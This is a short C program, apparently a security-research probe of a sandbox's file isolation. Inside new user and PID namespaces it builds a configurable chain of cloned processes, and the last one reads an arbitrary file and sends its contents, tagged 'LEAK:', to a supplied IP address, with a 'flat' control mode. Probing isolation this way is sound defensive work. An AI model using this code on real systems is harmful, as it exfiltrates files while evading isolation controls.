// chain IP PATH DEPTH [flat]: sends PRE; clones a child into a new user and pid
// namespace (clone(CLONE_NEWUSER|CLONE_NEWPID), which the profile allows); inside,
// a chain of DEPTH processes, each forking the next and waiting for it; the last
// opens PATH, reads it and sends it. `flat`: no new namespaces (the control).
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <sys/mman.h>
#include "../../isolated-files-r4/send.c"
static const char *ip, *path; static int depth;
static int readsend(void) {

  int fd = open(path, O_RDONLY);
  printf("depth %d (pid %d here): open(%s) = %d %s\n", depth, getpid(), path, fd, fd < 0 ? strerror(errno) : "-");
  if (fd < 0) return 1;
  char buf[4096]; ssize_t n = read(fd, buf, sizeof buf - 1); buf[n > 0 ? n : 0] = 0; close(fd);
  printf("READ %zd bytes: %.40s\n", n, buf);
  char msg[4200]; int m = snprintf(msg, sizeof msg, "LEAK:%s", buf);
  printf("POST send: %d\n", send_buf(ip, msg, m));
  return 0;
}
// One level: clones the next (CLONE_VM: no page tables copied, each level its own
// 16 KiB of a shared stack area) and waits for it; the last reads and sends.
static char *stacks;
static int level(void *arg) {
  long l = (long)arg;
  if (l >= depth) return readsend();
  pid_t k = clone(level, stacks + (l + 1) * 16384, CLONE_VM | SIGCHLD, (void *)(l + 1));
  if (k < 0) { perror("clone"); return 1; }
  int st; if (waitpid(k, &st, __WALL) < 0) perror("waitpid");
  return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}
static int chain(void *unused) {
  stacks = mmap(0, (size_t)(depth + 2) * 16384, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (stacks == MAP_FAILED) { perror("mmap"); return 1; }
  return level((void *)1L);
}
static char stk[1 << 16];
int main(int argc, char **argv) {
  setvbuf(stdout, 0, _IONBF, 0);
  ip = argv[1]; path = argv[2]; depth = atoi(argv[3]);
  int flat = argc > 4 && !strcmp(argv[4], "flat");
  printf("PRE send: %d\n", send_buf(ip, "PRE-TAINT-CHANNEL-OK", 20));
  int flags = flat ? 0 : CLONE_NEWUSER | CLONE_NEWPID;
  pid_t p = clone(chain, stk + sizeof stk, flags | SIGCHLD, 0);
  if (p < 0) { perror("clone"); return 1; }
  int st; waitpid(p, &st, 0);
  return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}
